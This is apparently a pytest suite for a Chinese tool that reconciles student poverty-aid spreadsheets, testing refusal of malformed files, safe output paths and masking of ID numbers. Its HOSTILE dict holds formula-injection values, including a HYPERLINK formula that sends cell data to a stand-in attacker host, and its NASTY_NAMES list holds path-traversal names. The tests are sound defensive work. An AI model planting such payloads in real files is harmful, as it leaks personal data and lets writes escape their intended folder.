"""Broken and hostile inputs, safe outputs, personal data (issue 6).

The bad files are written at test time by ``tests/corpus/make_bad.py`` (nothing binary is
committed).  For every case: ``fupin inspect`` and ``fupin reconcile`` (the file given as the
roster) end in seconds with exit 2 and a one-line Chinese message naming the file — or, for the
odd-but-usable files, read them.  Nothing but an empty folder is left in ``-o`` after a refusal.
The heavy cases (bombs, a million rows, a 10-million-character cell) are also run in a child
process that reports its time and peak memory.
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from corpus.make_bad import (
    CASES,
    ID1,
    ITEM,
    A,
    C,
    make_id,
    national_rows,
    registry_rows,
    roster_rows,
    valid_county,
    write_xlsx,
)

from jiaoyu_fupin.cli import main
from jiaoyu_fupin.errors import mask_id_numbers
from jiaoyu_fupin.io.cells import MAX_CELL_CHARS, TRUNCATED_MARK
from jiaoyu_fupin.io.load import REASON_FORMULA_ID
from jiaoyu_fupin.io.readers import read_raw
from jiaoyu_fupin.report.xlsx import sanitize_filename, sanitize_sheet_name

CJK = re.compile(r"[\u4e00-\u9fff]")
ID_RE = re.compile(r"\d{17}[\dXx]")
SECONDS = 10


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("corpus")
    return {name: case.build(d) for name, case in CASES.items()}


@pytest.fixture(scope="module")
def county(tmp_path_factory) -> dict[str, Path]:
    return valid_county(tmp_path_factory.mktemp("county"))


def invoke(*args: str):
    started = time.monotonic()
    res = CliRunner().invoke(main, ["-q", *args])
    return res, time.monotonic() - started


def assert_refusal(res, path: Path, words=()) -> None:
    """Exit 2, one line on stderr, Chinese, naming the file, no traceback."""
    assert res.exit_code == 2, (res.exit_code, res.output)
    err = res.stderr.strip()
    assert "\n" not in err, err
    assert err.startswith("错误："), err
    assert CJK.search(err)
    assert path.name in err, err
    for w in words:
        assert w in err, (w, err)
    assert "Traceback" not in res.output
    assert res.exception is None or isinstance(res.exception, SystemExit)


def reconcile_args(county: dict[str, Path], out: Path, **role) -> list[str]:
    paths = {**county, **role}
    return ["reconcile", "--registry", str(paths["registry"]), "--national", str(paths["national"]),
            "--roster", str(paths["roster"]), "--semester", "2020秋", "-o", str(out)]


# ----------------------------------------------------------------------------- every case, inspect

@pytest.mark.parametrize("name", list(CASES))
def test_inspect(corpus, name):
    case, path = CASES[name], corpus[name]
    res, took = invoke("inspect", "--json", str(path))
    assert took < SECONDS, took
    if case.expect == "refuse":
        assert_refusal(res, path, case.words)
        return
    assert res.exit_code == 0, res.output
    data = json.loads(res.stdout)
    assert sum(s["rows"] for f in data["files"] for s in f["sheets"]) == case.rows


# ----------------------------------------------------------------------------- every case, reconcile

RECONCILE_READS = {"million_styled_rows", "duplicate_header_harmless", "huge_cell"}
RECONCILE_REFUSES = {"header_only": ("只有表头",), "formula_ids": (REASON_FORMULA_ID[:12],)}


@pytest.mark.parametrize("name", list(CASES))
def test_reconcile_with_bad_roster(corpus, county, tmp_path, name):
    case, path = CASES[name], corpus[name]
    out = tmp_path / "out"
    res, took = invoke(*reconcile_args(county, out, roster=path))
    assert took < SECONDS, took
    if name in RECONCILE_READS:
        assert res.exit_code == 0, res.output
        assert (out / "run.json").is_file()
        return
    words = RECONCILE_REFUSES.get(name, case.words)
    assert_refusal(res, path, words)
    assert not out.exists() or not any(out.iterdir()), list(out.iterdir())


def test_bad_file_as_registry_and_ledger(corpus, county, tmp_path):
    for role, name in (("registry", "bomb"), ("national", "encrypted"), ("registry", "header_only"),
                       ("national", "laughs_sst")):
        path = corpus[name]
        res, _ = invoke(*reconcile_args(county, tmp_path / f"out_{role}_{name}", **{role: path}))
        assert_refusal(res, path)


def test_missing_path_and_folders_without_spreadsheets(county, tmp_path):
    missing = tmp_path / "没有这个文件.xlsx"
    res, _ = invoke("inspect", str(missing))
    assert_refusal(res, missing, ("找不到",))
    empty = tmp_path / "空文件夹"
    empty.mkdir()
    res, _ = invoke("inspect", str(empty))
    assert_refusal(res, empty, ("没有表格文件",))
    docs = tmp_path / "只有文档"
    docs.mkdir()
    (docs / "说明.pdf").write_bytes(b"%PDF-1.4\n")
    (docs / "通知.docx").write_bytes(b"PK\x03\x04")
    res, _ = invoke(*reconcile_args(county, tmp_path / "out", roster=docs))
    assert_refusal(res, docs, ("没有表格文件",))
    res, _ = invoke(*reconcile_args(county, tmp_path / "out2", registry=missing))
    assert_refusal(res, missing, ("找不到",))


def test_non_spreadsheet_in_roster_folder_is_skipped_not_fatal(corpus, county, tmp_path):
    folder = tmp_path / "名册"
    folder.mkdir()
    (folder / "一小.xlsx").write_bytes((county["roster"] / "名册.xlsx").read_bytes())
    (folder / "照片.xlsx").write_bytes(corpus["png_as_xlsx"].read_bytes())
    res, _ = invoke(*reconcile_args(county, tmp_path / "out", roster=folder))
    assert res.exit_code == 0, res.output


def test_formula_ids_are_rejected_with_the_reason(corpus, county, tmp_path):
    """A roster folder where one file's ID column is formulas without results: those rows are
    listed in 无法识别 with the reason, the rest of the run goes on."""
    folder = tmp_path / "名册"
    folder.mkdir()
    (folder / "一小.xlsx").write_bytes((county["roster"] / "名册.xlsx").read_bytes())
    (folder / "公式.xlsx").write_bytes(corpus["formula_ids"].read_bytes())
    out = tmp_path / "out"
    res, _ = invoke(*reconcile_args(county, out, roster=folder))
    assert res.exit_code == 0, res.output
    wb = openpyxl.load_workbook(out / "对账台账_2020秋.xlsx")
    text = "\n".join(str(v) for row in wb["无法识别"].iter_rows(values_only=True) for v in row if v)
    assert text.count(REASON_FORMULA_ID) == 3
    acc = json.loads((out / "run.json").read_text(encoding="utf-8"))["accounting"]
    assert acc["ok"] is True


def test_huge_cell_is_cut_and_marked(corpus):
    sheets = read_raw(corpus["huge_cell"])
    longest = max((v for col in sheets[0].columns for v in col), key=len)
    assert len(longest) == MAX_CELL_CHARS
    assert longest.endswith(TRUNCATED_MARK)


def test_huge_csv_cell_is_cut_too(tmp_path):
    p = tmp_path / "长.csv"
    p.write_text("姓名,身份证号,备注\n张三," + ID1 + "," + "备" * 200_000 + "\n", encoding="utf-8")
    sheet = read_raw(p)[0]
    assert len(sheet.columns[2][1]) == MAX_CELL_CHARS and sheet.columns[2][1].endswith(TRUNCATED_MARK)


_CHILD = r"""
import json, resource, sys, time
from click.testing import CliRunner
from jiaoyu_fupin.cli import main
report = {}
for name, path in json.loads(sys.argv[1]).items():
    t = time.monotonic()
    res = CliRunner().invoke(main, ["-q", "inspect", "--json", path])
    report[name] = [res.exit_code, time.monotonic() - t]
    print(name, report[name], file=sys.stderr, flush=True)
report["maxrss_kb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps(report))
"""


def test_heavy_cases_fast_and_small_in_a_child_process(corpus):
    heavy = {n: str(corpus[n]) for n, c in CASES.items() if c.heavy}
    assert len(heavy) >= 6
    env = {**os.environ, "RUST_BACKTRACE": "0"}
    proc = subprocess.run([sys.executable, "-c", _CHILD, json.dumps(heavy)], capture_output=True, text=True,
                          timeout=SECONDS * len(heavy), env=env, check=False)
    assert proc.returncode == 0, proc.stderr[-2000:]
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    for name in heavy:
        code, took = report[name]
        assert code == (0 if CASES[name].expect == "read" else 2), (name, code)
        assert took < SECONDS, (name, took)
    assert report["maxrss_kb"] < 1024 * 1024, report["maxrss_kb"]


# ----------------------------------------------------------------------------- safe outputs

def test_never_writes_into_an_input_folder(county, tmp_path):
    before = sorted(p.name for p in county["registry"].parent.iterdir())
    res, _ = invoke(*reconcile_args(county, county["registry"].parent))
    assert res.exit_code == 2 and "所在的文件夹" in res.stderr
    assert sorted(p.name for p in county["registry"].parent.iterdir()) == before
    res, _ = invoke(*reconcile_args(county, county["roster"]))
    assert res.exit_code == 2 and "输入文件夹" in res.stderr
    res, _ = invoke(*reconcile_args(county, county["roster"] / "结果"))
    assert res.exit_code == 2
    assert not (county["roster"] / "结果").exists()
    data = county["national"].read_bytes()
    res, _ = invoke(*reconcile_args(county, county["national"]))
    assert res.exit_code == 2 and "已存在的文件" in res.stderr
    assert county["national"].read_bytes() == data


def test_previous_run_needs_force(county, tmp_path):
    out = tmp_path / "out"
    assert invoke(*reconcile_args(county, out))[0].exit_code == 0
    first = (out / "run.json").read_text(encoding="utf-8")
    res, _ = invoke(*reconcile_args(county, out))
    assert res.exit_code == 2 and "--force" in res.stderr
    assert (out / "run.json").read_text(encoding="utf-8") == first
    res, _ = invoke(*reconcile_args(county, out), "--force")
    assert res.exit_code == 0, res.output


@pytest.mark.parametrize("error", [RuntimeError("磁盘已满"), KeyboardInterrupt()])
def test_no_half_written_workbook_after_a_failure(county, tmp_path, monkeypatch, error):
    import xlsxwriter

    def boom(self):
        raise error

    monkeypatch.setattr(xlsxwriter.Workbook, "close", boom)
    out = tmp_path / "out"
    res, _ = invoke(*reconcile_args(county, out))
    assert res.exit_code == (130 if isinstance(error, KeyboardInterrupt) else 3)
    assert "Traceback" not in res.output
    left = sorted(p.name for p in out.rglob("*"))
    assert not [n for n in left if n.endswith(".xlsx") or n.startswith(".")], left
    assert "run.json" not in left


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
    "school": "@SUM(1)",
    "class": "+1+1",
    "village": "-2+3",
    "grade_note": "\t=1+2",
}


def _hostile_county(d: Path) -> dict[str, Path]:
    d.mkdir(parents=True)
    (d / "名册").mkdir()
    reg = registry_rows()
    reg[1][1] = HOSTILE["village"]
    nat = [[*r, "年级" if k == 0 else "八年级"] for k, r in enumerate(national_rows())]
    nat[2][0] = HOSTILE["school"]
    nat[2][1] = HOSTILE["name"]
    ros = roster_rows()
    ros[3][0], ros[3][1], ros[3][5] = HOSTILE["school"], HOSTILE["name"], HOSTILE["class"]
    ros.append([HOSTILE["grade_note"], "", "", "", "", "", "", ""])     # a rejected row
    return {"registry": write_xlsx(d / "建档立卡.xlsx", reg), "national": write_xlsx(d / "全国.xlsx", nat),
            "roster": write_xlsx(d / "名册" / "名册.xlsx", ros).parent}


def test_formula_text_from_input_never_becomes_a_formula(tmp_path):
    county = _hostile_county(tmp_path / "in")
    out = tmp_path / "out"
    res, _ = invoke(*reconcile_args(county, out), "--split-by", "school")
    assert res.exit_code == 0, res.output
    books = list(out.rglob("*.xlsx"))
    assert len(books) >= 2
    seen = set()
    for book in books:
        wb = openpyxl.load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        # the tool's own total rows only
                        assert str(cell.value).startswith("=SUBTOTAL("), (book.name, ws.title, cell.value)
                    elif isinstance(cell.value, str) and cell.value in HOSTILE.values():
                        assert cell.data_type == "s"
                        seen.add(cell.value)
    assert {HOSTILE["name"], HOSTILE["school"]} <= seen
    with open(out / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    hit = [r for r in rows if r["category"] == "NOT_REGISTERED"]
    assert hit and hit[0]["name"] == "'" + HOSTILE["name"] and hit[0]["school"] == "'" + HOSTILE["school"]
    for r in rows:
        for v in r.values():
            assert not v or v[0] not in "=+@\t\r" or v.startswith("'"), v
    with open(out / "links.csv", encoding="utf-8-sig", newline="") as fh:
        names = [r["raw_name"] for r in csv.DictReader(fh)]
    assert "'" + HOSTILE["name"] in names


NASTY_NAMES = ["../../etc", "a/b", "CON", "学" * 40, "[]:*?", "..", "COM1.txt", "a\\b\x00c"]


@pytest.mark.parametrize("name", NASTY_NAMES)
def test_file_and_sheet_names_are_sanitised(name):
    f = sanitize_filename(name)
    assert f and "/" not in f and "\\" not in f and "\x00" not in f and ".." not in f
    assert f.split(".")[0].upper() not in ("CON", "COM1")
    assert len(f) <= 100
    s = sanitize_sheet_name(name, set())
    assert s and len(s) <= 31 and not set(s) & set("[]:*?/\\")


def test_split_by_school_with_nasty_school_names_stays_in_the_output_folder(tmp_path):
    d = tmp_path / "in"
    (d / "名册").mkdir(parents=True)
    nat = [[*national_rows()[0], "年级"]]
    ros = roster_rows()
    for k, school in enumerate(NASTY_NAMES):
        pid = make_id(birth="20090909", seq=f"{500 + k}")
        nat.append([school, f"孙{k}", pid, ITEM, "312.5", "2020-2021学年", "秋季学期", "建档立卡", "八年级"])
        ros.append([school, f"孙{k}", pid, "", "八年级", "2班", "走读", "在读"])
    county = {"registry": write_xlsx(d / "建档立卡.xlsx", registry_rows()),
              "national": write_xlsx(d / "全国.xlsx", nat), "roster": write_xlsx(d / "名册" / "名册.xlsx", ros).parent}
    out = tmp_path / "deep" / "out"
    res, _ = invoke(*reconcile_args(county, out), "--split-by", "school")
    assert res.exit_code == 0, res.output
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and out not in p.parents and d not in p.parents]
    assert outside == []
    split = out / "按学校"
    made = sorted(p.name for p in split.iterdir())
    assert len(made) >= len(NASTY_NAMES) - 1
    for n in made:
        assert n.endswith(".xlsx") and ".." not in n and not n.startswith(".")
        assert n.split("_")[0].upper() not in ("CON",)
        assert len(n.encode()) <= 255


# ----------------------------------------------------------------------------- personal data

def _all_ids(county: dict[str, Path]) -> set[str]:
    return {A, C} | {r[5] for r in registry_rows()[1:]} | {r[2] for r in national_rows()[1:]}


def test_mask_ids_in_every_human_facing_output(county, tmp_path):
    out = tmp_path / "out"
    res, _ = invoke(*reconcile_args(county, out), "--mask-ids", "--split-by", "school")
    assert res.exit_code == 0, res.output
    ids = _all_ids(county)
    assert not [i for i in ids if i in res.output]
    for book in out.rglob("*.xlsx"):
        wb = openpyxl.load_workbook(book)
        for ws in wb.worksheets:
            for row in ws.iter_rows(values_only=True):
                for v in row:
                    if isinstance(v, str):
                        assert not [i for i in ids if i in v], (book.name, ws.title, v)
    # machine outputs keep the full IDs (batch scripts join on them)
    assert A in (out / "findings.csv").read_text(encoding="utf-8-sig")


def test_run_json_records_hashes_not_contents(county, tmp_path):
    out = tmp_path / "out"
    assert invoke(*reconcile_args(county, out))[0].exit_code == 0
    text = (out / "run.json").read_text(encoding="utf-8")
    for i in _all_ids(county):
        assert i not in text
    for name in ("张三", "王六", "孙九"):
        assert name not in text
    assert not ID_RE.search(text)
    inputs = json.loads(text)["inputs"]
    assert inputs and all(re.fullmatch(r"[0-9a-f]{64}", i["sha256"]) for i in inputs)


def test_error_messages_mask_ids(county, tmp_path, monkeypatch):
    # a file named after a child's ID
    named = tmp_path / f"{A}.xlsx"
    res, _ = invoke("inspect", str(named))
    assert res.exit_code == 2 and A not in res.output and mask_id_numbers(A) in res.output
    # an unexpected error whose text quotes a cell
    import jiaoyu_fupin.reconcile.run as run_mod

    def broken(*args, **kwargs):
        raise ValueError(f"无法处理 {A} 与 {C}")

    monkeypatch.setattr(run_mod, "reconcile", broken)
    res, _ = invoke(*reconcile_args(county, tmp_path / "out"))
    assert res.exit_code == 3
    assert A not in res.output and C not in res.output and "********" in res.output
    assert "Traceback" not in res.output


def test_inspect_masks_ids_in_titles_and_headers(tmp_path):
    p = write_xlsx(tmp_path / "标题.xlsx", [[f"张三 {A} 的名册"], ["姓名", "身份证号", A], ["张三", A, "x"]])
    res, _ = invoke("inspect", "--json", str(p))
    assert res.exit_code == 0, res.output
    assert A not in res.stdout
    res, _ = invoke("inspect", str(p))
    assert A not in res.output
